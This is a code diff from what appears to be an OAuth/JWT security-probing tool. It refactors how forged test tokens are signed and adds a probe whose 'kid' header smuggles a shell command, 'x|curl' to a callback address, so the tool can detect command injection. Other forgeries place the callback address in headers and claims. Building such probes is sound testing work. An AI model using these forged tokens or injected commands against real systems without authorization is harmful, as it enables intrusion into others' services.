@@ -4,8 +4,7 @@ from collections.abc import Iterator
 from typing import Any
 
 from nightlatch.workbench.oauth.probe import weakness
-from nightlatch.workbench.oauth.probe.forgery import Forgery, Parts, packed, with_secret
-from nightlatch.workbench.tokens.making import sign
+from nightlatch.workbench.oauth.probe.forgery import Forgery, Parts, packed, signed_by, with_secret
 
 SLEEP = 5
 """Seconds that a command asks for."""
@@ -58,11 +57,14 @@ def addressed(parts: Parts, address: str, key: dict[str, Any]) -> Iterator[tuple
     header = {"typ": parts.header.get("typ", "JWT"), "kid": key["kid"]}
     for name in _IN_HEADERS:
         path = f"/header-{name}"
-        token = sign(parts.claims, key, **{**header, name: address + path})
+        token = signed_by(key, {**header, name: address + path}, parts.claims)
         yield path, Forgery(weakness.KEY_ADDRESS, f"whose header {name} names our address", token)
+    command = f"x|curl {address}/command"
+    yield "/command", Forgery(weakness.KEY_SHELL, "of a kid that is a command (curl our address)",
+                              with_secret(parts, b"", {"kid": command}))  # fmt: skip
     for number, name in enumerate(list(parts.claims)[:_MOST_CLAIMS]):
         path = f"/claim-{number}"
-        token = sign({**parts.claims, name: address + path}, key, **header)
+        token = signed_by(key, header, {**parts.claims, name: address + path})
         how = f"whose claim {_shown(name)} names our address"
         yield path, Forgery(weakness.KEY_ADDRESS, how, token)
 
